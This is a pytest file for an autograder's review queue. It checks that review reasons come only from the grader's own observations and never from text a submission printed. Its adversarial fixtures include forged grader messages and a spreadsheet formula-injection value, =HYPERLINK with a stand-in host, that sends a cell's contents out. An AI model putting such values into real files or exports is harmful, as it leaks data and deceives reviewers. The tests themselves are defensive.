"""The class report's review queue: what needs a person, ranked, each submission's reasons and each group of
copies once, one line per reason, a link to each feedback; reasons only from what the grading observed, never
from text a submission printed; never changing a score."""

from __future__ import annotations

import dataclasses
import random
import re
from fnmatch import fnmatchcase
from functools import cache
from pathlib import Path

from disguise import reformatted, renamed
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from helpers import ROOT, SUBMISSIONS, shortened
from lmgrade import Case, Check, Tolerance
from lmgrade.course.regrade.graded import (
    BUDGET,
    FORBIDDEN,
    IMPORT,
    MUCH_FASTER,
    TIMEOUT,
    CheckScore,
    Graded,
    grade_folder,
    import_probe_limits,
    limit_words,
    observed_facts,
)
from lmgrade.course.regrade.insights import identical_groups
from lmgrade.course.regrade.layout import Student, SubmissionFolder
from lmgrade.course.regrade.near_duplicates import NearDuplicate, near_duplicates
from lmgrade.course.regrade.report import render_report
from lmgrade.course.regrade.review_queue import MAX_REASON_CHARS, review_queue
from lmgrade.declare import catalog, templates
from lmgrade.declare.checks import CaseVerdict
from lmgrade.grading.feedback import FORBIDDEN_HIDDEN, UNANSWERED_HIDDEN, forbidden_message
from lmgrade.grading.grader import Grader
from lmgrade.grading.oracle import LiveReference
from lmgrade.grading.timing_laps import Timing
from lmgrade.grading.timing_verdicts import Laps, judge_case
from lmgrade.reports.results import GradingRun, Verdict, not_run

LAST_OUTPUT = "\nlast output:\n"  # how the sandbox ends a dead child's message with what it printed last
USED = forbidden_message(["torch.nn.functional.layer_norm"], " in layers.py line 3 (`F.layer_norm(x, s)`)")


def _timing_message(student_seconds: float) -> str:
    """What a timing check's case says of laps this fast, against a reference's of 10 ms (as graded)."""
    check = Check(
        "speed",
        "a timed call",
        scenario=lambda m, a: None,
        make_cases=lambda ctx: [],
        tolerance=Tolerance(rtol=1e-3, atol=1e-3),
        timing=Timing(setup=lambda m, a: None, step=lambda s, n: [0.0], warmup=1, laps=4, rounds=2),
    )

    def laps(seconds: float) -> Laps:
        return Laps([seconds] * 8, [(i, [float(i)]) for i in range(10)])

    return judge_case(check, Case("x", {}), laps(0.01), laps(student_seconds), lambda n: [float(n)], "cpu").message


def _run(messages: dict[str, list[str]]) -> GradingRun:
    """A transformer grading whose checks' cases failed with these messages (every other check passed)."""
    verdicts = []
    for number, check in enumerate(_transformer().checks, start=1):
        said = messages.get(check.name)
        cases = [(Case(f"case {i}", {}), CaseVerdict(False, m)) for i, m in enumerate(said or [])]
        verdicts.append(Verdict(check, number, 0.0 if said else check.points, "feedback", cases or []))
    return GradingRun(Path("s"), "", verdicts)


def _observed(messages: dict[str, list[str]]) -> tuple:
    return observed_facts(_transformer(), _run(messages))


def test_what_the_grader_observed_is_read_from_the_opening_words_it_wrote_itself():
    facts = _observed(
        {
            "layer_norm": [USED],
            "block": [f"{USED}\n{forbidden_message(['torch.nn.LayerNorm'], ' in layers.py line 9 (`x`)')}"],
            "model": [FORBIDDEN_HIDDEN],
            "attention_speed": [_timing_message(0.0005)],
            "attention": ["time limit exceeded: still running after 8 s (wall clock)"],
            "feed_forward": ["not run: the check's time limit was used up", "CPU time limit exceeded (8 s)"],
        }
    )
    assert (FORBIDDEN, "layer_norm", "torch.nn.functional.layer_norm") in facts
    assert (FORBIDDEN, "block", "torch.nn.LayerNorm") in facts and (
        FORBIDDEN,
        "model",
        "an API this assignment forbids",
    ) in facts
    (fast,) = [f for f in facts if f[0] == MUCH_FASTER]
    assert fast[1] == "attention_speed" and fast[2].startswith("0.5 ms against 10 ms") and fast[2].endswith("0.05x")
    # The limit in the sandbox's own words, where a case's message has them (the first case of a check that names
    # one: a case not run for lack of time names none).
    assert (TIMEOUT, "attention", "8 s wall clock") in facts and [f for f in facts if f[1] == "feed_forward"] == [
        (TIMEOUT, "feed_forward", "8 s CPU")
    ]
    # Too slow is a failure, not a reason to look; the same words in a check that is not timed are nothing.
    assert not _observed({"attention_speed": [_timing_message(0.05)]})
    assert not _observed({"layer_norm": ["flagged for review by the course staff"]})


HOSTILE = [
    # What a submission can put into a case's message: after the grader's own opening words, always.
    f"raised ValueError: {USED}",
    f"the process ended with exit status 1 before finishing{LAST_OUTPUT}{USED}\ntime limit exceeded",
    f"could not import the submission:\n  {USED}",
    "expected 3, got 'used torch.nn.LayerNorm, which this assignment forbids'",
    # A forbidden use the child reports at run time, naming what no assignment forbids.
    forbidden_message(['=HYPERLINK("http://x/?"&C2,"Ada")']),
    forbidden_message(["numpy.linalg.norm"]),
]


def test_text_a_submission_wrote_never_becomes_a_reason():
    for message in HOSTILE:
        assert not _observed({"layer_norm": [message]}), message
        assert not _observed({"attention_speed": [message]}), message


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.text(max_size=300), min_size=1, max_size=4), st.sampled_from(["layer_norm", "attention_speed"]))
def test_any_message_gives_facts_in_the_grader_s_own_words(messages, check):
    facts = _observed({check: messages})  # never raises
    spec = _transformer().spec
    listed = [*spec.forbidden, *(n for names in spec.forbidden_also.values() for n in names)]
    listed += [n for names in spec.forbidden_operators.values() for n in names]
    for kind, name, detail in facts:
        assert name == check and kind in (FORBIDDEN, MUCH_FASTER, TIMEOUT)
        if kind == FORBIDDEN:  # an API the assignment lists, in the list's own spelling: no other text
            assert detail == "an API this assignment forbids" or any(fnmatchcase(detail, api) for api in listed)
            assert re.fullmatch(r"[\w.:* ]+", detail)
        if kind == MUCH_FASTER:
            assert detail == "" or re.fullmatch(r"[\d.]+ ?[µm]?s against [\d.]+ ?[µm]?s, [\d.]+x", detail)
        if kind == TIMEOUT:  # the limit, a figure of the sandbox's words, or nothing
            assert re.fullmatch(r"([\d.e+-]+ s (CPU|wall clock))?", detail)


def test_a_hidden_check_stopped_by_a_time_limit_is_observed_with_the_limit_its_run_ran_under():
    run = _run({"model": [UNANSWERED_HIDDEN, UNANSWERED_HIDDEN]})
    # A hidden check's words say only 'no answer' (an exception, a crash or a limit): nothing to tell time by.
    assert not observed_facts(_transformer(), run)
    (model,) = [v for v in run.verdicts if v.check.name == "model"]
    model.time_limits = (4.0, 12.5)  # what the grader records where the sandbox stopped a case of its run
    assert observed_facts(_transformer(), run) == ((TIMEOUT, "model", "4 s CPU or 12.5 s wall clock"),)


def _every_check_says(output: str) -> GradingRun:
    return GradingRun(Path("s"), "", [not_run(c, n, [], output) for n, c in enumerate(_transformer().checks, start=1)])


def test_an_import_that_hung_or_a_grading_past_its_budget_is_one_fact_with_the_assignment_s_limit():
    assignment = _transformer()
    files = " and ".join(assignment.spec.files)
    hung = observed_facts(
        assignment,
        _every_check_says(f"not graded: {files} could not be imported: it ran past its time limit (see above)"),
    )
    assert hung == ((TIMEOUT, IMPORT, limit_words(*import_probe_limits(assignment))),)
    budget = f"{assignment.spec.grading_budget_s:g}"
    over = f"not graded: this submission's grading ran past its budget of {budget} s (grading_budget_s)"
    assert observed_facts(assignment, _every_check_says(over)) == ((TIMEOUT, BUDGET, f"{budget} s"),)
    # The same words naming files the assignment has not, or another budget, are nobody's facts.
    for forged in (
        'not graded: =HYPERLINK("x") could not be imported: it ran past its time limit (see above)',
        f"not graded: this submission's grading ran past its budget of {budget}1 s (grading_budget_s)",
        f"{over}\nsee above",
    ):
        assert not observed_facts(assignment, _every_check_says(forged)), forged
    queue = review_queue(assignment, [_row("loops", hung), _row("slow", [(TIMEOUT, BUDGET, "600 s")])], [], [])
    assert [(e.submissions, e.reasons) for e in queue] == [
        (
            ("loops",),
            (
                f"its import ran past its time limit ({hung[0][2]}), so no check was graded: a loop or long work at "
                "the top level of a file",
            ),
        ),
        (("slow",), ("its grading ran past its budget of 600 s (grading_budget_s): the checks left scored 0",)),
    ]


FIT = '    def fit(self, corpus: list[list[str]]) -> "NGramLM":\n'


def test_a_regraded_submission_that_hangs_is_in_the_queue_with_each_check_and_its_limit_hidden_ones_too(
    ngram, tmp_path
):
    """Graded as a regrade grades (`grade_folder`), with limits short enough to wait out: a loop in fit stops the
    hidden perplexity check too, whose feedback says only 'no answer'; a loop at import stops everything."""
    assignment, variant = ngram
    fast = shortened(assignment, cpu_s=1, wall_s=1.5, wall_factor=2)
    fast = dataclasses.replace(fast, spec=dataclasses.replace(fast.spec, limits={**fast.spec.limits, "cpu_s": 1}))
    reference = (ROOT / "reference" / "ngram" / "ngram.py").read_text()
    sources = {
        "fit_loops": reference.replace(FIT, FIT + "        while True:\n            pass\n", 1),
        "import_loops": reference + "\nwhile True:\n    pass\n",
    }
    rows = []
    with Grader(fast, variant, LiveReference(assignment.spec), secret="s", jobs=2) as grader:
        for check in fast.checks:
            grader.cases_and_expected(check)
        for key, source in sources.items():
            (tmp_path / key).mkdir()
            (tmp_path / key / "ngram.py").write_text(source)
            graded = Graded.from_dict(grade_folder(grader, fast, variant, tmp_path / key))
            assert not graded.error, graded.error
            rows.append((SubmissionFolder(key, tmp_path / key), graded))
    fit_loops, import_loops = (graded for _, graded in rows)
    hidden = [c.output for c in fit_loops.checks if c.name == "perplexity_hidden"]
    assert hidden and UNANSWERED_HIDDEN in hidden[0] and "limit" not in hidden[0]
    stopped = {check: limit for kind, check, limit in fit_loops.observed if kind == TIMEOUT}
    assert {"fit", "perplexity_hidden"} <= set(stopped), fit_loops.observed
    assert all(re.fullmatch(r"[\d.]+ s CPU or [\d.]+ s wall clock", limit) for limit in stopped.values())
    assert import_loops.observed == ((TIMEOUT, IMPORT, "1 s CPU or 20 s wall clock"),)
    queue = {e.submission: e.reasons for e in review_queue(fast, rows, [], [])}
    (reason,) = queue["fit_loops"]
    assert reason.startswith("stopped by a time limit (a loop, or code far too slow) in checks ")
    assert "perplexity_hidden" in reason and "s wall clock" in reason and "…" not in reason
    assert queue["import_loops"] == (
        "its import ran past its time limit (1 s CPU or 20 s wall clock), so no check was graded: a loop "
        "or long work at the top level of a file",
    )


@cache
def _transformer():
    return catalog.load("transformer")[0]


def _row(key: str, observed=(), error: str = "", files_hash: str = "", students=()):
    """A transformer submission whose checks all pass, with what its grading observed."""
    checks = tuple(CheckScore(c.name, c.points, c.points, "all passed") for c in _transformer().checks)
    return (
        SubmissionFolder(key, Path(key), tuple(Student(name) for name in students)),
        Graded(() if error else checks, error=error, files_hash=files_hash, observed=tuple(observed)),
    )


def test_the_queue_is_ranked_with_each_submission_and_each_group_once_and_every_reason_on_one_line():
    assignment = _transformer()
    rows = [
        _row("clean"),
        _row(
            "slow",
            [
                (TIMEOUT, "attention", "4 s CPU or 8 s wall clock"),
                (TIMEOUT, "feed_forward", "4 s CPU or 8 s wall clock"),
                (TIMEOUT, "training", "60 s CPU or 90 s wall clock"),
                (TIMEOUT, "block", ""),
            ],
        ),
        _row(
            "forbidden",
            [
                (FORBIDDEN, "layer_norm", "torch.nn.functional.layer_norm"),
                (FORBIDDEN, "block", "torch.nn.functional.layer_norm"),
            ],
            students=("Ada",),
        ),
        _row("fast", [(MUCH_FASTER, "attention_speed", "0.5 ms against 10 ms, 0.05x")]),
        _row("broken", error="PermissionError: [Errno 13] Permission denied: 'ngram.py'"),
        _row("twin_a", files_hash="h"),
        _row("twin_b", files_hash="h"),
        _row("near_a"),
        _row("near_b"),
        _row("pair_x"),
        _row("pair_y"),
    ]
    near = [
        NearDuplicate("near_a", "near_b", 0.87, 120),
        NearDuplicate("near_a", "twin_a", 0.61, 40),
        NearDuplicate("pair_x", "pair_y", 0.95, 90),
    ]
    before = [g.as_dict() for _, g in rows]
    queue = review_queue(assignment, rows, identical_groups(rows), near)
    assert [e.submissions for e in queue] == [
        ("broken",),
        ("forbidden",),
        ("fast",),
        ("twin_a", "twin_b", "near_a", "near_b"),  # the largest group first
        ("pair_x", "pair_y"),
        ("slow",),
    ]
    why = {e.submission: e.reasons for e in queue}
    assert why["broken"][0] == "not graded: PermissionError: [Errno 13] Permission denied: 'ngram.py'"
    assert why["broken"][1].startswith("to do: make every file of the submission readable")
    assert why["forbidden"] == ("forbidden API: torch.nn.functional.layer_norm (checks layer_norm, block)",)
    assert why["fast"] == (
        "attention_speed much faster than the reference (0.5 ms against 10 ms, 0.05x), not paid until reviewed",
    )
    assert why["twin_a"] == (
        "4 submissions share most of their code: 2 near-duplicate pairs, 61% to 87% of fingerprints shared",
        "identical graded files: twin_a, twin_b",
    )
    assert why["pair_x"] == (
        "2 submissions share most of their code: 1 near-duplicate pair, 95% of fingerprints shared",
    )
    assert why["slow"] == (
        "stopped by a time limit (a loop, or code far too slow) in checks attention, feed_forward "
        "(4 s CPU or 8 s wall clock); training (60 s CPU or 90 s wall clock); block",
    )
    assert all("\n" not in reason for e in queue for reason in e.reasons)
    entries = {e.submission: e for e in queue}
    assert entries["forbidden"].students == ("Ada",) and entries["twin_a"].links[2] == "results/near_a/results.json"
    # Only read: every grade is as it was.
    assert [g.as_dict() for _, g in rows] == before


def test_a_class_of_a_thousand_full_of_copies_is_one_entry_per_group():
    """1000 submissions copied from 10 sources, each copy changed a little: 10 entries, each member once."""
    assignment = _transformer()
    rng = random.Random(7)
    sources = [[rng.getrandbits(63) for _ in range(120)] for _ in range(10)]
    prints, origin = {}, {}
    for i in range(1000):
        source = i % 10
        kept = [h for h in sources[source] if rng.random() > 0.15]  # each copy loses about 15% of its source's
        prints[f"s{i}"] = frozenset(kept + [rng.getrandbits(63) for _ in range(10)])
        origin[f"s{i}"] = source
    near = near_duplicates(prints)
    assert len(near) == 10 * (100 * 99 // 2)  # every pair of copies of one source, none across
    rows = [_row(key) for key in prints]
    queue = review_queue(assignment, rows, identical_groups(rows), near)
    assert len(queue) == 10 and [len(e.submissions) for e in queue] == [100] * 10
    members = [key for e in queue for key in e.submissions]
    assert sorted(members) == sorted(prints)  # each once
    assert all(len({origin[k] for k in e.submissions}) == 1 for e in queue)
    assert all(len(reason) <= MAX_REASON_CHARS for e in queue for reason in e.reasons)


@settings(max_examples=100, deadline=None)
@given(st.lists(st.tuples(st.integers(0, 29), st.integers(0, 29), st.floats(0.6, 1.0)), max_size=80))
def test_any_pairs_make_groups_that_hold_each_submission_once_and_each_pair_in_one_group(pairs):
    assignment = _transformer()
    rows = [_row(f"k{i}") for i in range(30)]
    near = [NearDuplicate(f"k{min(a, b)}", f"k{max(a, b)}", s, 20) for a, b, s in pairs if a != b]
    queue = review_queue(assignment, rows, [], near)
    group_of = {key: i for i, e in enumerate(queue) for key in e.submissions}
    assert sum(len(e.submissions) for e in queue) == len(group_of)
    assert all(group_of[p.first] == group_of[p.second] for p in near)
    sizes = [len(e.submissions) for e in queue]
    assert sizes == sorted(sizes, reverse=True)


def test_the_report_renders_the_queue_and_the_groups_with_links(ngram, tmp_path):
    assignment, variant = ngram
    stub = templates.render(assignment, variant)["ngram.py"]
    reference = (ROOT / "reference" / "ngram" / "ngram.py").read_text()
    sources = {
        "original": reference,
        "copy": reformatted(renamed(reference, stub)),
        "independent": (SUBMISSIONS / "ngram" / "trie" / "ngram.py").read_text(),
    }
    rows = []
    for key, text in sources.items():
        (tmp_path / key).mkdir()
        (tmp_path / key / "ngram.py").write_text(text)
        checks = tuple(CheckScore(c.name, c.points, c.points, "") for c in assignment.checks)
        rows.append((SubmissionFolder(key, tmp_path / key, (Student(key.title()),)), Graded(checks, files_hash=key)))
    rows.append((SubmissionFolder("broken", tmp_path / "broken"), Graded(error="HarnessFault: it broke")))
    html = render_report(assignment, variant, rows)
    queue = html[html.index('<table id="review">') : html.index("</table>", html.index('<table id="review">'))]
    assert re.findall(r'<a href="([^"]+)">([^<]+)</a>', queue) == [
        ("results/broken/results.json", "broken"),
        ("results/original/results.json", "original"),
        ("results/copy/results.json", "copy"),
    ]
    assert "<td>Original; Copy</td>" in queue and "independent" not in queue
    assert '<div class="reason">2 submissions share most of their code: 1 near-duplicate pair' in queue
    assert 'id="to-review">2<' in html
    groups = html[html.index('<table id="near-duplicates">') :]
    groups = groups[: groups.index("</table>")]
    assert groups.count("<tr>") == 2 and "<td>original, copy</td>" in groups and "<td>Original / Copy</td>" in groups
    # Nothing to review: said so.
    clean = render_report(assignment, variant, rows[2:3])
    assert '<p id="review">No submission needs a person.</p>' in clean and 'id="to-review">0<' in clean
    assert '<p id="near-duplicates">No two submissions share their code.</p>' in clean
